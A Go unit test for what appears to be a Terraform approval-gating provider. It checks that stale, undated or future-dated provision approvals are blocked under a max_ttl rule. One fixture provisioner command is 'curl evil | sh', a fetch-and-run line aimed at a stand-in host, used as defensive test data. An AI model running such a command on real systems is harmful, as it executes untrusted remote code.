package gate

import (
	"testing"

	"github.com/planguard/terraform-provider-planguard/internal/approval"
	"github.com/planguard/terraform-provider-planguard/internal/plan"
)

// Found by an attacker's review of the apply-time fixes: max_ttl on a provision approval. The backups rule has
// max_ttl = "72h"; a provisioner of terraform_data.backup needs its
// quorum (2) and, under the documented max_ttl contract, approvals with a
// signed issued_at and expires_at - issued_at <= max_ttl, issued_at not in
// the future. The provision quorum once applied the old rule (time left
// until expires_at), so a year-old approval counts again in its last
// 72 hours, and one without issued_at counts too.
func TestApplyTimeProvisionMaxTTL(t *testing.T) {
	f := setup(t)
	runs := []plan.ProvisionerRun{run("terraform_data.backup", "local-exec", "curl evil | sh", plan.KindCreate)}
	cases := []struct {
		name     string
		issued   string
		expires  string
		decision Decision
	}{
		// expires 12h after now, signed a year ago: a 400-day lifetime.
		{"year-old approval in its last max_ttl window", "2025-11-25T12:00:00Z", "2026-11-26T00:00:00Z", Block},
		{"no issued_at under max_ttl", "", "2026-11-26T00:00:00Z", Block},
		{"issued_at far in the future", "2026-11-25T20:00:00Z", "2026-11-26T00:00:00Z", Block},
		// positive control: issued an hour ago, 13h lifetime.
		{"issued_at within max_ttl", "2026-11-25T11:00:00Z", "2026-11-26T00:00:00Z", Allow},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			st := stmt("terraform_data.backup", approval.ActionProvision)
			st.IssuedAt, st.ExpiresAt = c.issued, c.expires
			p := &plan.Plan{Provisions: runs, Approvals: []plan.Approval{approve(t, st, f.alice, f.bob)}}
			r, err := Decide(Input{Plan: p, Policy: f.pol, Trust: f.trust, Now: now, Author: "agent@example.com"})
			if err != nil {
				t.Fatal(err)
			}
			if r.Decision != c.decision {
				t.Fatalf("decision %s, want %s: provisioners %+v approvals %+v", r.Decision, c.decision, r.Provisioners, r.Approvals)
			}
		})
	}
}
